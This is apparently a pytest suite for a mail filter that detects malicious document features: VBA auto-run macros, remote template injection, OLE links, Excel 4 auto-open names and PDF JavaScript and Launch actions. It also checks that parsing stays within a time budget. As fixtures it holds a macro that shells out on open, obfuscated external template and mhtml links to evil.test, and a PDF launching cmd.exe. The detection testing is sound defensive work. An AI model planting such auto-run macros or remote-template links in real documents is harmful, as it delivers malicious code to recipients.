"""Documents: macros, actions and passwords are found, and what they do is asked of a process that may die."""

from __future__ import annotations

import struct
import time
import zlib
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from elemta_milter.archives import Bounds, Budget, piecewise
from elemta_milter.archives.budget import BrokenError
from elemta_milter.contents import macros, office, pdf, remote
from harness.archives import ole, vba_project

MACRO = b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n'
VBA = vba_project(MACRO)


def records(*pairs):
    return b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in pairs)


def sheet(kind):
    return (0x85, struct.pack("<LBBB", 0, 0, kind, 1) + b"\0A")


@pytest.mark.parametrize(
    ("streams", "macros_", "encrypted"),
    [
        ({"WordDocument": bytes(5000)}, False, False),
        ({"WordDocument": bytes(11) + b"\1" + bytes(5000)}, False, True),
        ({"WordDocument": bytes(5000), "Macros/VBA/_VBA_PROJECT": b"x"}, True, False),
        ({"_VBA_PROJECT_CUR/VBA/dir": b"x", "Workbook": b"x"}, True, False),
        ({"Workbook": records((0x809, bytes(8)), sheet(0), sheet(1), (0x0A, b""))}, True, False),
        ({"Workbook": records((0x809, bytes(8)), sheet(0), sheet(2), (0x0A, b""), sheet(1))}, False, False),
        ({"Book": records((0x809, bytes(8)), (0x2F, bytes(6)), (0x0A, b""))}, False, True),
        ({"EncryptedPackage": bytes(5000), "EncryptionInfo": b"x"}, False, True),
        ({"PowerPoint Document": b"x", "EncryptedSummary": b"x"}, False, True),
    ],
)
def test_old_documents(streams, macros_, encrypted):
    seen = office.look(memoryview(ole(streams)))
    assert (seen.macros, seen.encrypted) == (macros_, encrypted)


@pytest.mark.parametrize(
    ("name", "data", "macros_", "encrypted"),
    [
        ("word/document.xml", b"<x/>", False, False),
        ("word/vbaProject.bin", VBA, True, False),
        ("word/vbaProject.bin", b"broken", True, False),
        ("word/renamed.bin", VBA, True, False),
        ("xl/macrosheets/sheet1.xml", b"<x/>", True, False),
        ("Basic/Standard/Module1.xml", b'<?xml?><script:module script:name="M">', True, False),
        ("Basic/script-lc.xml", b"<library:libraries>", False, False),
        ("Scripts/python/a.py", b"import os", True, False),
        ("META-INF/manifest.xml", b"<manifest:encryption-data>", False, True),
        ("META-INF/manifest.xml", b"<manifest:file-entry>", False, False),
    ],
)
def test_parts_of_new_documents(name, data, macros_, encrypted):
    seen = office.look_at_part(name, memoryview(data))
    assert (seen.macros, seen.encrypted) == (macros_, encrypted)


RELATION = '<Relationships><Relationship Id="rId1" Type="http://x/{}" Target="{}" TargetMode="{}"/></Relationships>'


@pytest.mark.parametrize(
    ("kind", "target", "mode", "fetches"),
    [
        ("attachedTemplate", "http://evil.test/a.dotm", "External", True),
        ("attachedTemplate", "\\\\evil.test\\a.dotm", "External", True),
        ("attachedTemplate", "file://evil.test/a.dotm", "External", True),
        ("attachedTemplate", "file:///\\\\evil.test\\a.dotm", "External", True),
        ("oleObject", "mhtml:http://evil.test/a!x-usc:http://evil.test/a", "external", True),
        ("attachedTemplate", "file:///C:\\Templates\\a.dotx", "External", False),
        ("attachedTemplate", "http://evil.test/a.dotm", "Internal", False),
        ("hyperlink", "http://good.test/", "External", False),
    ],
)
def test_what_a_document_loads_from_elsewhere(kind, target, mode, fetches):
    data = memoryview(RELATION.format(kind, target, mode).encode())
    assert office.look_at_part("word/_rels/settings.xml.rels", data).fetches is fetches


ATTRIBUTES = 'Id="a" Type="http://x/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"'


@pytest.mark.parametrize(
    "relation",
    [
        f"<Relationship {ATTRIBUTES}/>".replace("http://evil", "&#104;ttp://evil"),
        f"<Relationship {ATTRIBUTES}/>".replace("External", "&#x00045;xternal"),
        f"<Relationship {ATTRIBUTES}/>".replace("http://evil", "&#x2f;&#x2F;evil"),
        f"<Relationship {ATTRIBUTES}/>".replace("a.dotm", "?>"),
        f"<Relationship {ATTRIBUTES}/>".replace("a.dotm", "a" * 10_000),
        f"<_a-prefix.of-any-length-and-letters_ü:Relationship {ATTRIBUTES}/>",
        f"<Relationship {ATTRIBUTES}/>".replace('"', "'"),
        f"<Relationship Id='\"' {ATTRIBUTES[7:]}/>",
    ],
)
@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
def test_what_is_loaded_from_elsewhere_however_it_is_written(relation, charset):
    data = f"<Relationships>{relation}</Relationships>".encode(charset)
    assert office.look_at_part("word/_rels/settings.xml.rels", memoryview(data)).fetches


@pytest.mark.parametrize(
    ("template", "fetches"),
    [
        (rb"{\*\template http://evil.test/a.dotm}", True),
        (rb"{\template http://evil.test/a.dotm}", True),
        (rb"{\*\template \'68ttp://evil.test/a.dotm}", True),
        (rb"{\*\template \u-65432?\u-65420?\u-65420?\u-65424?\u-65478?\'2f\'2fevil.test/a.dotm}", True),
        (rb"{\*\template \u104\'3f\u116 ?\u116?\u112?://evil.test/a.dotm}", True),
        (rb"{\uc0{\*\template \u104 ttp://evil.test/a.dotm}}", True),
        (b"{\\*\\template h\r\nt{t}p://evil.test/a.dotm}", True),
        (rb"{\*\template\b http://evil.test/a.dotm}", True),
        (rb"{\*\template \\\\evil.test\\a.dotm}", True),
        (rb"{\*\template C:\\a.dotx}{\*\template http://evil.test/a.dotm}", True),
        (rb"{\*\template C:\\a.dotx}", False),
        (rb"{\*\template \\a.dotx}", False),
        (rb"{\*\templatehttp://evil.test}", False),
        (rb"{\*\template \u10740?ttp://a}", False),
    ],
)
def test_what_rtf_loads_from_elsewhere(template, fetches):
    assert remote.has_remote_template(memoryview(rb"{\rtf1" + template + b"}")) is fetches


@pytest.mark.parametrize(
    ("moniker", "address", "fetches"),
    [
        ("e0c9ea79f9bace118c8200aa004ba90b", "http://evil.test/a.hta", True),
        ("0303000000000000c000000000000046", "\\\\evil.test\\a.xls", True),
        ("0303000000000000c000000000000046", "C:\\a.xls", False),
        ("00" * 16, "http://evil.test/a.hta", False),
    ],
)
def test_what_an_object_is_linked_to(moniker, address, fetches):
    link = bytes(20) + bytes.fromhex(moniker) + struct.pack("<L", 2 * len(address)) + address.encode("utf-16-le")
    assert office.look(memoryview(ole({"a/\x01Ole": bytes(20), "\x01Ole": link}))).fetches is fetches


@pytest.mark.parametrize(
    "data",
    [
        b"\\template " * 500_000,
        b"\\template \\u" * 300_000,
        b"\\template " + b"{" * 5_000_000,
    ],
    ids=["templates", "numbers", "groups"],
)
def test_a_hostile_rtf_costs_no_more_than_the_budget(data):
    began = time.thread_time()
    remote.has_remote_template(memoryview(data), Budget(Bounds()).goes_on)
    assert time.thread_time() - began < 4


@pytest.mark.parametrize(
    "piece", [b"<Relationship ", b"<Relationship '", b'<Relationship "', b"<a:", b"<Relationship ''", b"&#0"]
)
def test_hostile_relations_take_linear_time(piece):
    began = time.thread_time()
    remote.has_remote_relation(memoryview(piece * (2_000_000 // len(piece))))
    assert time.thread_time() - began < 4


@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "kind", ["application/vnd.ms-excel.macrosheet+xml", "application/vnd.ms-excel.intlMacro&#83;heet"]
)
def test_macros_of_excel_4_in_a_sheet_that_is_called_like_any_other(kind, charset):
    data = f'<Types><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}"/></Types>'.encode(charset)
    assert office.look_at_part("[Content_Types].xml", memoryview(data)).macros


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("xl/workbook.xml", b'<definedName name="_xlnm.Auto_Open">'),
        ("xl/workbook.xml", b'<definedName name="_xlnm.auto_&#79;pen">'),
        ("xl/workbook.bin", b"\x83\1\0" + "_xlnm.Auto_Close".encode("utf-16-le")),
        ("x/y.xml", b'<?xml version="1.0"?><x:workbook xmlns:x="y"><definedName name="_xlnm.Auto_Close">'),
        ("x/y.xml", '<workbook xmlns:x="y"><definedName name="_xlnm.Auto_Open">'.encode("utf-16")),
        ("x/y.bin", b"\x83\1\0" + "_xlnm.Auto_Open".encode("utf-16-le")),
    ],
)
def test_macros_of_excel_4_that_run_by_themselves(name, data):
    assert office.look_at_part(name, memoryview(data)).runs_itself


def test_olevba_says_what_macros_do():
    told = macros.ask(memoryview(VBA), 10)
    assert (told.there, told.runs_itself, told.keywords, told.unread) == (True, True, ("Shell",), "")
    assert macros.ask(memoryview(ole({"WordDocument": bytes(5000)})), 10) == macros.Macros()


def test_what_olevba_cannot_read_or_not_in_time_is_told():
    assert macros.ask(memoryview(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), 10).unread == "its macros could not be looked at"
    assert macros.ask(memoryview(vba_project(MACRO * 40_000)), 1).unread
    assert macros.ask(memoryview(VBA), 1, time.monotonic() - 1).unread == "there was no time to look at its macros"


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.integers(0, len(VBA) - 1), st.integers(0, 255)), max_size=20), st.integers(0, len(VBA)))
def test_a_changed_document_is_broken_at_worst(changes, end):
    made = bytearray(VBA)
    for at, value in changes:
        made[at] = value
    with suppress(BrokenError):
        office.look(memoryview(bytes(made[:end])))


# ── PDF ──────────────────────────────────────────────────────────────────────────────────────────────────


def look(data):
    return pdf.look(memoryview(data), Budget(Bounds()))


def object_stream(content):
    return (
        b"1 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\r\n"
        + zlib.compress(b"1 0 " + content)
        + b"\r\nendstream"
    )


@pytest.mark.parametrize(
    ("data", "does"),
    [
        (b"%PDF-1.7 <</S /JavaScript /JS (app.alert(1))>>", ("javascript",)),
        (b"%PDF-1.7 <</S/J#61va#53cript>>", ("javascript",)),
        (b"%PDF-1.7 <</S/#4a#61#76#61#53#63#72#69#70#74>>", ("javascript",)),
        (b"%PDF-1.7 <</S /Launch /F (cmd.exe)>>", ("launch",)),
        (b"%PDF-1.7 <</OpenAction 3 0 R>>", ("open_action",)),
        (b"%PDF-1.7 <</Type /EmbeddedFile>>", ("embedded_file",)),
        (b"%PDF-1.7 " + object_stream(b"<</S /JavaScript>>"), ("javascript",)),
        (b"%PDF-1.7 " + object_stream(b"<</S /J#61vaScript>>").replace(b"ObjStm", b"Obj#53tm"), ("javascript",)),
        (b"%PDF-1.7 <</Launched 1 /JavaScripts 2 /S /URI>> stream\r\n/JS\r\nendstream", ()),
    ],
)
def test_what_a_pdf_does(data, does):
    assert look(data) == pdf.Pdf(does)


def test_an_encrypted_pdf():
    assert look(b"%PDF-1.7 trailer <</Encrypt 5 0 R>>" + object_stream(b"x").replace(b"x\x9c", b"??")) == pdf.Pdf(
        encrypted=True
    )


SCRIPT = zlib.compress(b"1 0 <</S /JavaScript>>")


@pytest.mark.parametrize(
    "data",
    [
        b"1 0 obj <</N 1 /First 4 /Filter /FlateDecode>> stream\r" + zlib.compress(b"1 0 <</S /JavaScript>>"),
        b"1 0 obj <</N 1/First 4>> stream\n1 0 <</S /JavaScript>>",
        b"<</N 1/First 9 0 R>>%x\rstream \n" + SCRIPT,
        b"<</N 1/First%x\n4>>stream\n" + SCRIPT,
        b"<</N 1/Filter/FlateDecode/First\0+4\n>>stream" + SCRIPT,
        b"<</First 4/X(stream\n"
        + zlib.compress(b"1 0 ")
        + b" \\( (>>stream\n) )/Y<3E3>%>>stream\n>> stream\n"
        + SCRIPT,
        b"<</DecodeParms<</First 4>>/Z<</Type/ObjStm>>>>stream\n" + SCRIPT,
    ],
)
def test_an_object_stream_that_does_not_say_what_it_is(data):
    assert look(data).does == ("javascript",)


def test_outlines_are_no_object_stream():
    outlines = b"1 0 obj <</Type /Outlines /First 5 0 R /Last 7 0 R>>\nendobj\n2 0 obj <</Length 1>> stream\nx"
    assert look(outlines) == pdf.Pdf()
    assert look(outlines + b" " * 5000) == pdf.Pdf()
    assert look(b"<</First 5 0 R>>" + b" " * 5000).unread == 1


def test_a_name_right_behind_the_place_of_the_first_object_is_one():
    assert look(b"%PDF-1.7 <</S/First 1/JavaScript>>").does == ("javascript",)


@pytest.mark.parametrize("before", range(90))
def test_a_name_that_is_cut_in_two_by_how_much_is_looked_at_is_found_once(before, monkeypatch):
    monkeypatch.setattr(piecewise, "PIECE", 90)
    data = memoryview(b" " * before + b"/Java#53cript")
    assert [each for each, _ in pdf._words(data, Budget(Bounds()))] == ["javascript"]


def test_what_could_not_be_unpacked_is_counted():
    assert look(object_stream(b"").replace(zlib.compress(b"1 0 "), zlib.compress(zlib.compress(b"1 0 x")))).unread == 1
    assert look(b"%PDF-1.7 <</Type/ObjStm/Filter/LZWDecode>> stream\n????").unread == 1
    assert look(b"%PDF-1.7 <</Type/ObjStm " + b"%" * 9000 + b"\n>> stream\n").unread == 1


@pytest.mark.parametrize(
    "data",
    [
        b"/ObjStm " * 400_000,
        b"/ObjStm stream\n" + b"/ObjStm " * 1000 + b"x" * 4000 + b"/Launch " * 900_000,
        b"/#41" * 1_000_000,
        b"/First" + b"<<" * 2000 + b"/First<<>>" * 900_000,
        b"/First>>" * 900_000,
        b"/First>>" + b"%\r" * 900_000 + b"/First(" * 900_000,
        object_stream(bytes(50 << 20)) * 100,
        b"/" + b"a#41" * 1_000_000,
        b"/" * 48_000_000,
    ],
    ids=["no-streams", "one-stream", "escapes", "firsts", "ends", "comments", "bombs", "one-name", "slashes"],
)
def test_a_hostile_pdf_costs_no_more_than_the_budget(data):
    began = time.thread_time()
    look(data)
    assert time.thread_time() - began < 4


@given(st.binary(max_size=500))
def test_any_octets_are_a_pdf(data):
    look(b"/ObjStm stream\n" + data)


FLAT = b'<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">%s'
FLAT_MACROS = FLAT % b'<pkg:part pkg:name="/a.bin" pkg:contentType="application/vnd.ms-office.vbaProject">'
FLAT_LINK = b'<Relationship Type="a/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/>'
FLAT_ODF = b'<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">%s'


@pytest.mark.parametrize(
    ("data", "macros_", "fetches"),
    [
        (FLAT_MACROS, True, False),
        (b"\xef\xbb\xbf\r\n" + FLAT_MACROS.replace(b"-", b"&#45;"), True, False),
        (b"\xff\xfe" + FLAT_MACROS.decode().encode("utf-16-le"), True, False),
        (FLAT % FLAT_LINK, False, True),
        (FLAT % b"<pkg:part/>", False, False),
        (FLAT_ODF % b'<office:scripts><ooo:library-embedded ooo:name="Standard">', True, False),
        (FLAT_ODF % b"<office:body/>", False, False),
        (b"MIME-Version: 1.0\r\n\r\nQWN0aXZlTWltZQ", True, False),
        (FLAT_LINK, False, False),
        (b"a macro is an application/vnd.ms-office.vbaProject", False, False),
        (b"", False, False),
    ],
)
def test_documents_in_one_file_of_text(data, macros_, fetches):
    assert office.look_at_text(memoryview(data)) == office.Office(macros=macros_, fetches=fetches)
